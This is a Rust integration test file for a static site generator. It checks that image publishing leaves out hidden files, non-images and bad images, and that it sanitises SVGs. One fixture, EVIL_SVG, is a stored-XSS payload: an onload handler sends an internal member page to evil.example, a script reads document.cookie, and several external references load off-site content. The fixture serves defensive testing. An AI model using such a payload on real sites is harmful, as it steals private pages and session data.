//! Issue #10 items 3, 4 and 8 (images), through the binary on copies of the sample: only
//! referenced images of allowed types are published, SVGs sanitised, hidden files and
//! non-images never; `check` warns about what is left out and refuses what `build` would.
//! Each test first plants the attack that used to get through.

mod common;

use common::{Severity, Workspace, assert_sane, run_showcase};
use std::path::{Path, PathBuf};

const REPORT: &str = "cohorts/2017/reports/chengguan-illegal-structures.md";
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\0\x05\0\x01\xff\x89\x99=\x1d\0\0\0\0IEND\xaeB`\x82";

fn build_site(ws: &Workspace, internal: bool) -> (common::Run, PathBuf) {
    let out = ws.dir.path().join("out");
    let content = ws.content().to_string_lossy().into_owned();
    let out_s = out.to_string_lossy().into_owned();
    let theme = Path::new(env!("CARGO_MANIFEST_DIR")).join("themes/default");
    let theme = theme.to_string_lossy().into_owned();
    let mut args = vec![
        "build",
        "--no-booklet",
        "--content",
        &content,
        "--out",
        &out_s,
        "--theme",
        &theme,
    ];
    if internal {
        args.push("--internal");
    }
    let run = run_showcase(&args);
    assert_sane(&run, "build");
    (run, out)
}

fn files_under(dir: &Path) -> Vec<PathBuf> {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .filter_map(Result::ok)
        .map(|e| e.path().to_path_buf())
        .collect()
}

/// The diagnostic whose message contains `words` (panics with the whole output if none).
fn with_message(run: &common::Run, words: &str) -> common::Diag {
    run.diagnostics()
        .into_iter()
        .find(|d| d.message.contains(words))
        .unwrap_or_else(|| panic!("no diagnostic with {words:?}:\n{}", run.stderr))
}

/// Appends a paragraph to the report; returns the 1-based line it starts on.
fn append(ws: &Workspace, rel: &str, text: &str) -> usize {
    let mut body = ws.read(rel);
    if !body.ends_with('\n') {
        body.push('\n');
    }
    body.push('\n');
    let line = body.lines().count() + 1;
    body.push_str(text);
    body.push('\n');
    ws.write(rel, body);
    line
}

#[test]
fn hidden_files_and_non_images_are_never_published_and_check_warns() {
    let ws = Workspace::new();
    ws.write("cohorts/2017/images/.env", "SECRET_TOKEN=hunter2\n");
    ws.write(
        "cohorts/2017/images/.git/config",
        "[remote] url=secret-remote\n",
    );
    ws.write(
        "cohorts/2017/images/学员名册-含电话.yaml",
        "- name: 张三\n  phone: 13800000000\n",
    );
    ws.write("cohorts/2017/images/unused.png", PNG);
    ws.write("cohorts/2017/reports/.notes.md", "13800000000\n");

    let run = ws.check();
    assert_sane(&run, "check");
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let diags = run.diagnostics();
    for (file, words) in [
        ("cohorts/2017/images/.env", "隐藏"),
        ("cohorts/2017/images/.git", "隐藏"),
        ("cohorts/2017/images/学员名册-含电话.yaml", "不是图片"),
        ("cohorts/2017/reports/.notes.md", "隐藏"),
    ] {
        let d = diags
            .iter()
            .find(|d| d.location.starts_with(&format!("{file}:")))
            .unwrap_or_else(|| panic!("no diagnostic for {file}:\n{}", run.stderr));
        assert_eq!(d.severity, Severity::Warning, "{d}");
        assert!(
            d.message.contains(words) && d.message.contains("不会发布"),
            "{d}"
        );
        assert!(
            d.hint.as_deref().unwrap_or("").contains("移出内容目录"),
            "{d}"
        );
    }
    // A .git folder is one warning, not one per file inside it.
    assert!(!run.stderr.contains(".git/config"), "{}", run.stderr);

    let (run, out) = build_site(&ws, true);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let mut images: Vec<String> = std::fs::read_dir(out.join("site/2017/images"))
        .expect("images folder")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    images.sort();
    assert_eq!(
        images,
        [
            "case-chengguan-flood-0924.svg",
            "report-chengguan-weijian.svg",
            "report-jingji-2-vacancy.svg",
            "report-wending-1-grid.svg"
        ],
        "only the four referenced images"
    );
    for f in files_under(&out) {
        let name = f.to_string_lossy();
        assert!(
            !name.contains(".env")
                && !name.contains(".git")
                && !name.contains("学员名册")
                && !name.contains("unused")
                && !name.contains(".notes"),
            "published: {name}"
        );
        if f.is_file() {
            let bytes = std::fs::read(&f).expect("read");
            let text = String::from_utf8_lossy(&bytes);
            assert!(
                !text.contains("hunter2") && !text.contains("secret-remote"),
                "{name}"
            );
        }
    }
}

const EVIL_SVG: &str = r##"<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50" onload="fetch('/internal/2017/members/p066/').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example/',t))">
<script>alert(document.cookie)</script>
<rect x="0" y="0" width="100" height="50" fill="#3a6ea5" onclick="alert(2)"/>
<image href="https://evil.example/track.png" width="10" height="10"/>
<use xlink:href="https://evil.example/sprites.svg#icon"/>
<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="/internal/"/></foreignObject>
<text x="10" y="30" style="fill: url(https://evil.example/p.svg#g)">网格图</text>
</svg>
"##;

#[test]
fn svg_scripts_handlers_and_external_references_are_removed_and_reported() {
    let ws = Workspace::new();
    let svg = "cohorts/2017/images/report-wending-1-grid.svg";
    ws.write(svg, EVIL_SVG);

    let run = ws.check();
    assert_sane(&run, "check");
    assert_eq!(
        run.code,
        Some(0),
        "sanitising is a warning, not an error:\n{}",
        run.stderr
    );
    let d = run
        .diagnostics()
        .into_iter()
        .find(|d| d.location.starts_with(svg))
        .unwrap_or_else(|| panic!("no warning for the SVG:\n{}", run.stderr));
    assert_eq!(d.severity, Severity::Warning, "{d}");
    // Located at the first removal: the onload on line 2 of the SVG.
    assert_eq!(d.parsed_location().map(|l| l.1), Some(2), "{d}");
    for what in [
        "onload",
        "<script>",
        "onclick",
        "外部引用",
        "evil.example",
        "<foreignObject>",
    ] {
        assert!(d.message.contains(what), "{what} not named: {d}");
    }

    let (run, out) = build_site(&ws, false);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let published = std::fs::read_to_string(out.join("site/2017/images/report-wending-1-grid.svg"))
        .expect("published SVG");
    let lower = published.to_lowercase();
    for bad in [
        "<script",
        "alert",
        "onload",
        "onclick",
        "evil.example",
        "foreignobject",
        "iframe",
        "/internal/",
    ] {
        assert!(!lower.contains(bad), "{bad} published:\n{published}");
    }
    assert!(
        published.contains("<rect") && published.contains("网格图"),
        "{published}"
    );
}

#[test]
fn inline_svg_beside_a_report_is_published_and_the_page_image_resolves() {
    let ws = Workspace::new();
    let sample_svg = ws.read("cohorts/2017/images/report-chengguan-weijian.svg");
    ws.write("cohorts/2017/reports/inline.svg", &sample_svg);
    append(&ws, REPORT, "![内嵌图](inline.svg)");

    let run = ws.check();
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let (run, out) = build_site(&ws, false);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let page_dir = out.join("site/2017/reports/chengguan-illegal-structures");
    let html = std::fs::read_to_string(page_dir.join("index.html")).expect("report page");
    let srcs: Vec<&str> = html
        .split("<img src=\"")
        .skip(1)
        .filter_map(|s| s.split('"').next())
        .collect();
    assert!(
        srcs.iter().any(|s| s.ends_with("inline.svg")),
        "no <img> for inline.svg: {srcs:?}"
    );
    for s in &srcs {
        let target = page_dir.join(s);
        assert!(
            target.is_file(),
            "<img src={s:?}> does not resolve ({})",
            target.display()
        );
    }
    // The published copy is the (sanitised, here unchanged in substance) SVG.
    let published =
        std::fs::read_to_string(out.join("site/2017/reports/inline.svg")).expect("copy");
    assert!(published.contains("<svg") && published.contains("</svg>"));
}

#[test]
fn image_from_another_cohort_is_an_error_at_its_markdown_line() {
    let ws = Workspace::new();
    ws.write("cohorts/2016/images/old.png", PNG);
    let line = append(&ws, REPORT, "前文。![上届的图](../../2016/images/old.png)");

    let run = ws.check();
    assert_sane(&run, "check");
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    let d = with_message(&run, "old.png");
    assert_eq!(d.severity, Severity::Error, "{d}");
    assert!(d.message.contains("不在 2017 届的文件夹中"), "{d}");
    assert!(
        d.hint
            .as_deref()
            .unwrap_or("")
            .contains("cohorts/2017/images/"),
        "{d}"
    );
    assert_eq!(d.location, format!("{REPORT}:{line}:4"), "{d}");
    assert!(common::locations_are_real(&ws.content(), &[d]).is_empty());
}

#[test]
fn a_fake_png_is_refused_by_check_and_build() {
    let ws = Workspace::new();
    ws.write(
        "cohorts/2017/images/photo.png",
        "- name: 张三\n  phone: 13800000000\n",
    );
    ws.write("cohorts/2017/images/real.jpg", PNG);
    let l1 = append(&ws, REPORT, "![照片](../images/photo.png)");
    let l2 = append(&ws, REPORT, "![照片](../images/real.jpg)");

    let run = ws.check();
    assert_sane(&run, "check");
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    let diags = run.diagnostics();
    let at = |line: usize| {
        diags
            .iter()
            .find(|d| d.location == format!("{REPORT}:{line}:1"))
            .unwrap_or_else(|| panic!("nothing at line {line}:\n{}", run.stderr))
    };
    let fake = at(l1);
    assert!(fake.message.contains("内容不是 PNG 图片"), "{fake}");
    let wrong = at(l2);
    assert!(
        wrong.message.contains("扩展名是 JPEG，文件内容却是 PNG"),
        "{wrong}"
    );
    assert!(
        wrong.hint.as_deref().unwrap_or("").contains(".png"),
        "{wrong}"
    );

    let (run, out) = build_site(&ws, false);
    assert_eq!(run.code, Some(1), "build must refuse:\n{}", run.stderr);
    assert!(!out.join("site/2017/images/photo.png").exists());
}

#[test]
fn an_svg_that_cannot_be_parsed_is_an_error_at_the_referencing_line() {
    let ws = Workspace::new();
    ws.write(
        "cohorts/2017/images/broken.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\">\n<rect>\n</svg>\n",
    );
    let line = append(&ws, REPORT, "![坏图](../images/broken.svg)");
    let run = ws.check();
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    let d = with_message(&run, "broken.svg");
    assert_eq!(d.severity, Severity::Error);
    assert_eq!(d.location, format!("{REPORT}:{line}:1"), "{d}");
    assert!(
        d.message.contains("无法解析") && d.message.contains("cohorts/2017/images/broken.svg:3:"),
        "{d}"
    );
}

#[test]
fn a_damaged_or_oversized_raster_is_an_error_at_the_referencing_line() {
    let ws = Workspace::new();
    // Right name and magic number, body cut off: typst would fail on it in the booklet.
    ws.write("cohorts/2017/images/cut.png", &PNG[..PNG.len() - 20]);
    // 16385×1 pixels: more than any page needs (a decompression bomb is the extreme case).
    let mut wide = Vec::new();
    image::RgbImage::new(16_385, 1)
        .write_to(
            &mut std::io::Cursor::new(&mut wide),
            image::ImageFormat::Png,
        )
        .expect("encode");
    ws.write("cohorts/2017/images/wide.png", &wide);
    let l1 = append(&ws, REPORT, "![坏图](../images/cut.png)");
    let l2 = append(&ws, REPORT, "![宽图](../images/wide.png)");
    let run = ws.check();
    assert_sane(&run, "check");
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    let diags = run.diagnostics();
    for (line, words) in [(l1, "已损坏"), (l2, "尺寸过大")] {
        let d = diags
            .iter()
            .find(|d| d.location == format!("{REPORT}:{line}:1"))
            .unwrap_or_else(|| panic!("nothing at line {line}:\n{}", run.stderr));
        assert_eq!(d.severity, Severity::Error, "{d}");
        assert!(d.message.contains(words), "{d}");
    }
}

/// Typst refuses an SVG of no size (the booklet failed with the error located in the build
/// folder); check now says so at the Markdown line.
#[test]
fn an_svg_of_no_size_is_an_error_at_the_referencing_line() {
    let ws = Workspace::new();
    ws.write(
        "cohorts/2017/images/report-chengguan-weijian.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"0\" height=\"0\"><rect width=\"1\" height=\"1\"/></svg>\n",
    );
    let run = ws.check();
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    let d = with_message(&run, "尺寸无效");
    assert_eq!(d.location, format!("{REPORT}:16:1"), "{d}");
}
